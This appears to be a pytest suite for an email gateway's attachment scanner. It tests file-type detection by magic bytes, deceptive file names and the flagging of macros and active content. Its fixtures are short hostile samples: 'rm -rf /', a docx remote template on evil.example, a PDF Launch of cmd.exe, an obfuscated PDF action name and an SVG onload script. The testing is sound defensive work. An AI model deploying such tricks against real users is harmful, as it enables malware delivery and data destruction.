"""What a file really is, whatever it is called. R133, M5."""

import io
import struct
import zipfile

import pytest
from tests.fakes.gateway import codes, examination, judged, with_files

from carepost.gateway.files.kinds import Kind, kind_of
from carepost.gateway.files.names import BlockPolicy, deceives, extension, is_program_name

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SHORTCUT = b"\x4c\x00\x00\x00\x01\x14\x02\x00" + b"\0" * 60
PE = b"MZ" + b"\0" * 58 + struct.pack("<I", 128) + b"\0" * 64 + b"PE\0\0" + b"\0" * 100


def package(**parts: bytes) -> bytes:
    """An Office package of these parts ("word__vbaProject_bin" stands for word/vbaProject.bin)."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/").replace("_DOT_", "."), data)
    return file.getvalue()


CONTENT_TYPES = b'<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="%s"/></Types>'
PLAIN_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_TYPE = b"application/vnd.ms-word.document.macroEnabled.main+xml"


def docx(**more: bytes) -> bytes:
    return package(
        **{"[Content_Types]_DOT_xml": CONTENT_TYPES % PLAIN_TYPE, "word__document_DOT_xml": b"<w/>" * 50, **more}
    )


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (PE, Kind.WINDOWS_PROGRAM),
        (b"MZ\x90\x00\x03\x00", Kind.WINDOWS_PROGRAM),
        (b"\x7fELF\x02\x01", Kind.LINUX_PROGRAM),
        (b"\xcf\xfa\xed\xfe\x07", Kind.MAC_PROGRAM),
        (b"\xca\xfe\xba\xbe\x00\x00\x00\x37", Kind.BYTE_CODE),
        (b"#!/bin/sh\nrm -rf /", Kind.SCRIPT),
        (b"\xef\xbb\xbf#!/usr/bin/env python\n", Kind.SCRIPT),
        (b"#@~^AAAA==", Kind.SCRIPT),
        (b"<html><hta:application id=x></html>", Kind.SCRIPT),
        ('<job><script language="JScript">'.encode("utf-16"), Kind.SCRIPT),
        (SHORTCUT, Kind.SHORTCUT),
        (b"[InternetShortcut]\r\nURL=file://x", Kind.SHORTCUT),
        (b"\0" * 0x8001 + b"CD001", Kind.DISK_IMAGE),
        (b"\xeb\x3c\x90MSDOS5.0" + b"\0" * 43 + b"FAT12   " + b"\0" * 448 + b"\x55\xaa", Kind.DISK_IMAGE),
        (b"vhdxfile", Kind.DISK_IMAGE),
        (b"\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", Kind.NOTEBOOK),
        (b"ITSF\x03", Kind.HELP_FILE),
        (b"REGEDIT4\r\n", Kind.REGISTRY),
        (OLE, Kind.OLE),
        (b"%PDF-1.4", Kind.PDF),
        (b"junk\n%PDF-1.4", Kind.PDF),
        (b"{\\rtf1", Kind.RTF),
        (b"{\\rt ", Kind.RTF),
        (b"<!DOCTYPE html><p>", Kind.PAGE),
        (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'/>", Kind.SVG),
        (b"PK\x03\x04", Kind.ZIP),
        (b"Rar!\x1a\x07\x01\x00", Kind.OTHER_ARCHIVE),
        (b"7z\xbc\xaf\x27\x1c", Kind.OTHER_ARCHIVE),
        (b"\x78\x9f\x3e\x22", Kind.TNEF),
        (b"From: a@b\r\nTo: c@d\r\nSubject: x\r\n\r\nhi", Kind.MESSAGE),
        (b"\x89PNG\r\n\x1a\n", Kind.PICTURE),
        (b"\xff\xd8\xff\xe0", Kind.PICTURE),
        (b"MZ is how the letter began, said the secretary, and went on in plain English text.", Kind.TEXT),
        (b"Dear Jo, her results are well.", Kind.TEXT),
        ("Größe".encode("latin-1"), Kind.TEXT),
        (b"", Kind.TEXT),
        (bytes(range(256)), Kind.UNKNOWN),
    ],
)  # fmt: skip
def test_a_file_is_known_by_its_first_bytes(data: bytes, kind: Kind) -> None:
    assert kind_of(data) is kind


@pytest.mark.parametrize(
    ("name", "hidden"),
    [
        ("letter.pdf.exe", True),
        ("letter.pdf.html", True),
        ("report\u202efdp.exe", True),
        ("letter.pdf          .scr", True),
        ("letter.txt\x00.exe", True),
        ("photo.jpg.lnk", True),
        ("letter.pdf", False),
        ("letter.pdf.zip", False),
        ("results.2026.pdf", False),
        ("page.html", False),
        ("v1.2 letter.docx", False),
    ],
)
def test_a_name_that_deceives_the_eye_is_noticed(name: str, hidden: bool) -> None:
    assert (deceives(name, BlockPolicy()) is not None) == hidden


@pytest.mark.parametrize(
    "name",
    ["a.exe", "a.EXE", "a.exe.", "a.exe ", "a.exe...", "a.\u200bexe", "x/y\\a.scr", "a.txt\x00.vbs", "a.exe\x00.txt"],
)
def test_no_trailing_or_unseen_mark_hides_an_ending(name: str) -> None:
    assert is_program_name([name], BlockPolicy()) is not None


def test_endings_are_read_as_a_file_system_reads_them() -> None:
    assert extension("dir/letter.PDF") == "pdf"
    assert extension("noending") == ""


@pytest.mark.parametrize(
    ("name", "data", "card"),
    [
        ("letter.docm", docx(), "macros"),
        ("letter.docx", docx(word__vbaProject_DOT_bin=OLE), "macros"),
        ("letter.docx", package(**{"[Content_Types]_DOT_xml": CONTENT_TYPES % MACRO_TYPE}), "macros"),
        ("sheet.xlsx", docx(xl__macrosheets__sheet1_DOT_xml=b"<x/>"), "macros"),
        ("letter.doc", OLE + b"\0" * 600 + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 600, "macros"),
        ("letter.docx", docx(word___rels__settings_DOT_xml_DOT_rels=b'<Relationship Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'), "active-document"),
        ("letter.rtf", b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata 01050000}}}", "active-document"),
        ("letter.pdf", b"%PDF-1.4\n1 0 obj<</Type/Action/S/Launch/F(cmd.exe)>>endobj", "active-document"),
        ("letter.pdf", b"%PDF-1.4\n1 0 obj<</S/L#61unch>>endobj", "active-document"),
        ("picture.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "active-document"),
        ("page.html", b"<script>var b=atob('AAAA');var u=URL.createObjectURL(new Blob([b]));</script>", "active-document"),
        ("tool.exe", b"just text", "program"),
        ("notes", PE, "program"),
        ("letter.pdf", PE, "program"),
        ("photo.jpg", SHORTCUT, "program"),
        ("disk.iso", b"\0" * 0x8001 + b"CD001", "program"),
        ("notes.one", b"x", "program"),
        ("run.zip", package(a_DOT_js=b"WScript.Echo(1)"), "program"),
        ("lib.zip", package(**{"META-INF__MANIFEST_DOT_MF": b"Main-Class: A", "A_DOT_class": b"\xca\xfe\xba\xbe"}), "program"),
        ("letter.pdf.html", b"<html></html>", "hidden-type"),
        ("scan.rar", b"Rar!\x1a\x07\x01\x00" + b"x" * 50, "unreadable-archive"),
        ("scan.7z", b"7z\xbc\xaf\x27\x1c" + b"x" * 50, "unreadable-archive"),
        ("scan.zip", b"PK\x03\x04" + b"x" * 50, "unreadable-archive"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)  # fmt: skip
async def test_what_is_attached_ends_where_the_cards_say(name: str, data: bytes, card: str) -> None:
    ruling, found = await judged(examination(with_files((name, data))))
    assert ruling.gravest.decision.card == card, [(finding.code, finding.says) for finding in found]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("letter.docx", docx()),
        ("letter.pdf", b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj"),
        ("form.pdf", b"%PDF-1.4\n1 0 obj<</S/JavaScript/JS(this.print())>>endobj"),
        ("letter.rtf", b"{\\rtf1 Dear Jo}"),
        ("results.csv", b"a,b\n1,2\n"),
        ("scan.zip", package(scan1_DOT_png=b"\x89PNG\r\n\x1a\n" + b"x" * 100)),
        ("photo.jpg", b"\xff\xd8\xff\xe0" + b"x" * 100),
        ("picture.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><path d='M0 0'/></svg>"),
        ("page.html", b"<html><body>Report</body></html>"),
        ("old.eml", b"From: a@b.example\r\nTo: c@d.example\r\nSubject: x\r\n\r\nhi"),
        ("values.bin", bytes(range(256))),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
async def test_ordinary_files_pass(name: str, data: bytes) -> None:
    ruling, found = await judged(examination(with_files((name, data))))
    assert ruling.gravest.decision.card == "from-outside", [(finding.code, finding.says) for finding in found]


async def test_a_script_in_a_pdf_is_noted_and_no_more() -> None:
    _, found = await judged(examination(with_files(("form.pdf", b"%PDF-1.4\n1 0 obj<</S/JavaScript/JS(x)>>endobj"))))
    assert "scripted-document" in codes(found)


async def test_a_finding_names_the_file_without_its_tricks() -> None:
    _, found = await judged(examination(with_files(("in\u202evoice.exe", PE))))
    says = next(finding.says for finding in found if finding.code == "program")
    assert "\u202e" not in says
    assert "invoice.exe" in says
